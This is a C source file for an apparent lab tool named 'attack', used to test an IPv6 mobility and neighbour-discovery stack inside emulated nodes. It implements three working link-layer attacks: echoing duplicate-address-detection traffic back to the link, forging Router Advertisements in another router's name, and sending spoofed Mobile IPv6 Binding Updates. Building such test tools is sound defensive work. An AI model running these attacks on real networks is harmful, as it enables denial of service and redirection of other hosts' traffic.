/* SPDX-License-Identifier: GPL-2.0-or-later */
/* attack: what a node on the link does to others, for lab runs, inside the emulated node.
 *
 *   attack echo IFACE SECONDS kept|own
 *       gives each solicitation of duplicate address detection and each advertisement to
 *       all neighbours back to the link, as some access points and switches do: as it
 *       came, or with IFACE's own link-layer address as source
 *   attack ra IFACE FROM own|MAC LIFETIME PREFERENCE [PREFIX/LEN,FLAGS,VALID,PREFERRED]...
 *       one Router Advertisement in the name of FROM, with IFACE's own link-layer address
 *       or another; PREFERENCE is low, medium or high, FLAGS are some of L, A and R,
 *       lifetimes are in seconds or `infinite`
 *   attack bu FROM TO HOA SEQ LIFETIME
 *       one Binding Update for the home address HOA */
#include <mip6/wire.h>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { ETHER = 14, FRAME_MAX = 2048, ECHOES = 64, AGAIN_MS = 500 };

struct wire {
	int fd;
	uint8_t mac[ETH_ALEN];
};

static int usage(void)
{
	fputs(
	    "usage: attack echo IFACE SECONDS kept|own | ra IFACE FROM own|MAC LIFETIME PREFERENCE "
	    "[PREFIX/LEN,FLAGS,VALID,PREFERRED]... | bu FROM TO HOA SEQ LIFETIME\n",
	    stderr);
	return 2;
}

/* A socket for whole frames, also for those to others. */
static int open_wire(struct wire *w, const char *name)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IPV6)};
	struct packet_mreq all = {.mr_type = PACKET_MR_PROMISC};
	socklen_t len = sizeof(at);

	at.sll_ifindex = (int)if_nametoindex(name);
	all.mr_ifindex = at.sll_ifindex;
	w->fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
	if (w->fd < 0 || bind(w->fd, (struct sockaddr *)&at, sizeof(at)) < 0 ||
	    getsockname(w->fd, (struct sockaddr *)&at, &len) < 0 ||
	    setsockopt(w->fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &all, sizeof(all)) < 0) {
		perror("attack: socket");
		return -1;
	}
	memcpy(w->mac, at.sll_addr, ETH_ALEN);
	return 0;
}

/* ---- the echo ------------------------------------------------------------------------ */

static long long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

struct echo {
	uint8_t type;
	struct mip6_addr target;
	long long at; /* ms */
};

/* Returns false for what is neither a solicitation of duplicate address detection nor an
 * advertisement to all. */
static bool comes_back(const uint8_t *frame, size_t len, struct echo *ret)
{
	struct ip6_packet p;
	struct nd_ns ns;
	struct nd_na na;

	if (len < ETHER || ip6_parse(frame + ETHER, len - ETHER, &p) < 0 ||
	    p.next_header != IP6_NH_ICMPV6 || p.payload_len == 0)
		return false;
	ret->type = p.payload[0];
	if (ret->type == ICMP6_NA && mip6_addr_is_multicast(&p.dst) &&
	    nd_parse_na(p.payload, p.payload_len, &na) == 0) {
		ret->target = na.target;
		return true;
	}
	if (ret->type != ICMP6_NS || nd_parse_ns(p.payload, p.payload_len, &ns) < 0)
		return false;
	ret->target = ns.target;
	return mip6_addr_is_unspecified(&p.src);
}

/* An echo of the echo, which another one on the link may send, ends here. */
static bool echoed_lately(struct echo *echoes, const struct echo *one)
{
	struct echo *oldest = echoes;

	for (struct echo *e = echoes; e < echoes + ECHOES; e++) {
		if (e->at && one->at - e->at < AGAIN_MS && e->type == one->type &&
		    mip6_addr_equal(&e->target, &one->target))
			return true;
		if (e->at < oldest->at)
			oldest = e;
	}
	*oldest = *one;
	return false;
}

static unsigned echo_one(const struct wire *w, struct echo *echoes, bool own)
{
	struct echo one = {.at = now_ms()};
	struct sockaddr_ll from;
	socklen_t from_len = sizeof(from);
	uint8_t frame[FRAME_MAX];
	ssize_t n = recvfrom(w->fd, frame, sizeof(frame), 0, (struct sockaddr *)&from, &from_len);

	if (n < 0 || from.sll_pkttype == PACKET_OUTGOING || !comes_back(frame, (size_t)n, &one) ||
	    echoed_lately(echoes, &one))
		return 0;
	if (own)
		memcpy(frame + ETH_ALEN, w->mac, ETH_ALEN);
	return send(w->fd, frame, (size_t)n, 0) == n;
}

static int echo(int argc, char **argv)
{
	struct echo echoes[ECHOES] = {0};
	bool own = argc == 5 && strcmp(argv[4], "own") == 0;
	bool kept = argc == 5 && strcmp(argv[4], "kept") == 0;
	unsigned sent = 0;
	struct wire w;
	long long end;

	if (!own && !kept)
		return usage();
	if (open_wire(&w, argv[2]) < 0)
		return 1;
	end = now_ms() + 1000LL * atoi(argv[3]);
	for (long long left; (left = end - now_ms()) > 0;) {
		struct pollfd ready = {.fd = w.fd, .events = POLLIN};

		if (poll(&ready, 1, (int)left) > 0)
			sent += echo_one(&w, echoes, own);
	}
	printf("{\"sent\": %u}\n", sent);
	return 0;
}

/* ---- the Router Advertisement --------------------------------------------------------- */

static uint32_t seconds(const char *text)
{
	return strcmp(text, "infinite") == 0 ? UINT32_MAX : (uint32_t)strtoul(text, NULL, 10);
}

static int parse_prefix(const char *text, struct nd_pio *ret)
{
	char prefix[64];
	char flags[8];
	char valid[16];
	char preferred[16];
	unsigned len;

	if (sscanf(text, "%63[^/]/%u,%7[LAR],%15[^,],%15s", prefix, &len, flags, valid,
		   preferred) != 5 ||
	    len > 128 || mip6_addr_parse(prefix, &ret->prefix) < 0)
		return -1;
	ret->len = (uint8_t)len;
	ret->flags =
	    (uint8_t)((strchr(flags, 'L') ? ND_PIO_L : 0) | (strchr(flags, 'A') ? ND_PIO_A : 0) |
		      (strchr(flags, 'R') ? ND_PIO_R : 0));
	ret->valid = seconds(valid);
	ret->preferred = seconds(preferred);
	return 0;
}

/* RFC 4191 2.1. */
static uint8_t preference(const char *text)
{
	if (strcmp(text, "low") == 0)
		return 0x18;
	return strcmp(text, "high") == 0 ? 0x08 : 0;
}

static int send_ra(const struct wire *w, struct nd_ra *ra, const struct mip6_addr *from)
{
	struct ip6_packet p = {.hop_limit = 255, .src = *from, .next_header = IP6_NH_ICMPV6};
	uint8_t frame[FRAME_MAX] = {0x33, 0x33, 0, 0, 0, 1};
	uint8_t message[FRAME_MAX - 64];
	int len;

	memcpy(frame + ETH_ALEN, w->mac, ETH_ALEN);
	frame[12] = 0x86;
	frame[13] = 0xdd;
	mip6_addr_parse("ff02::1", &p.dst);
	len = nd_build_ra(&p.src, &p.dst, ra, message, sizeof(message));
	if (len < 0)
		return -1;
	p.payload = message;
	p.payload_len = (size_t)len;
	len = ip6_build(&p, frame + ETHER, sizeof(frame) - ETHER);
	return len > 0 && send(w->fd, frame, (size_t)len + ETHER, 0) > 0 ? 0 : -1;
}

static int parse_mac(const char *text, const struct wire *w, struct nd_lladdr *ret)
{
	uint8_t *m = ret->addr;

	ret->len = ETH_ALEN;
	memcpy(m, w->mac, ETH_ALEN);
	if (strcmp(text, "own") == 0)
		return 0;
	return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &m[0], &m[1], &m[2], &m[3], &m[4],
		      &m[5]) == ETH_ALEN
		   ? 0
		   : -1;
}

static int advertise(int argc, char **argv)
{
	struct nd_ra ra = {.hop_limit = 64};
	struct mip6_addr from;
	struct wire w;

	if (argc < 7 || argc - 7 > ND_PIO_MAX || mip6_addr_parse(argv[3], &from) < 0)
		return usage();
	ra.lifetime = (uint16_t)seconds(argv[5]);
	ra.flags = preference(argv[6]);
	for (int i = 7; i < argc; i++)
		if (parse_prefix(argv[i], &ra.pio[ra.pio_count++]) < 0)
			return usage();
	if (open_wire(&w, argv[2]) < 0)
		return 1;
	if (parse_mac(argv[4], &w, &ra.slla) < 0)
		return usage();
	if (send_ra(&w, &ra, &from) == 0)
		return 0;
	perror("attack: advertisement");
	return 1;
}

/* ---- the Binding Update --------------------------------------------------------------- */

static int bind_update(int argc, char **argv)
{
	struct ip6_packet p = {.hop_limit = 64, .has_hao = true, .next_header = IP6_NH_MH};
	struct mh_message m = {.type = MH_BU, .bu.flags = MH_BU_A | MH_BU_H};
	struct sockaddr_in6 to = {.sin6_family = AF_INET6};
	uint8_t message[128];
	uint8_t packet[256];
	int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
	int len;

	if (argc != 7 || mip6_addr_parse(argv[2], &p.src) < 0 ||
	    mip6_addr_parse(argv[3], &p.dst) < 0 || mip6_addr_parse(argv[4], &p.hao) < 0)
		return usage();
	m.bu.seq = (uint16_t)atoi(argv[5]);
	m.bu.lifetime = (uint16_t)(atoi(argv[6]) / 4);
	len = mh_build(&p.hao, &p.dst, &m, message, sizeof(message));
	p.payload = message;
	p.payload_len = len > 0 ? (size_t)len : 0;
	len = len > 0 ? ip6_build(&p, packet, sizeof(packet)) : -1;
	memcpy(&to.sin6_addr, p.dst.b, sizeof(p.dst.b));
	if (len > 0 && sendto(fd, packet, (size_t)len, 0, (struct sockaddr *)&to, sizeof(to)) > 0)
		return 0;
	perror("attack: Binding Update");
	return 1;
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return usage();
	if (strcmp(argv[1], "echo") == 0)
		return echo(argc, argv);
	if (strcmp(argv[1], "ra") == 0)
		return advertise(argc, argv);
	return strcmp(argv[1], "bu") == 0 ? bind_update(argc, argv) : usage();
}
